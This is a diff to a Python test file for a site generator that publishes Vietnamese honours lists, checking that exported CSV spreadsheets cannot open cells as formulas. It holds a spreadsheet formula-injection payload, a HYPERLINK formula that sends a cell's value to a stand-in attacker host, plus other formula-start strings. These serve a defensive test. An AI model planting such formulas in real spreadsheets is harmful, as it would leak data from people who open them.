@@ -14,9 +14,10 @@ from pathlib import Path
 
 import pytest
 
-from bangvang.core.honours import export
+from bangvang.core.honours import export, reader
 from bangvang.core.honours.model import Decision, HonourEntry, Issuer
 from conftest import Site
+from test_manifest import build_in_process
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")'
 FORMULA_STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1+1"]
@@ -71,14 +72,25 @@ entries_csv: a.csv
 """
 
 
-def test_published_spreadsheets_hold_no_formula(site: Site) -> None:
+def test_published_spreadsheets_hold_no_formula(
+    site: Site, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
     folder = site.root / "honours"
     folder.mkdir()
     (folder / "a.yaml").write_text(DECISION, encoding="utf-8")
     rows = "1,gia_dinh,Gia đình ông An,,,Thôn 1,Xã Thiên Lộc,Huyện Can Lộc,Tỉnh Hà Tĩnh\n"
     (folder / "a.csv").write_text("stt,kind,name,person,title,village,commune,district,province\n" + rows, "utf-8")
-    build = site.build()
-    assert build.code == 0, build.output
+    # The check is the first line of defence: it refuses the formula outright.
+    check = site.check("--strict")
+    assert check.code == 1 and "công thức" in check.output, check.output
+    # The exports are the second: were the check ever to miss one, no cell may open as a formula.
+    findings = reader.text_findings
+    monkeypatch.setattr(
+        reader,
+        "text_findings",
+        lambda *args, **kwargs: [f for f in findings(*args, **kwargs) if "công thức" not in f[1]],
+    )
+    assert build_in_process(site, monkeypatch, caplog) == ""
     data = site.out / "vinh-danh/du-lieu"
     for path in (data / "a.csv", data / "tinh/tinh-ha-tinh.csv"):
         (record,) = _records(path)
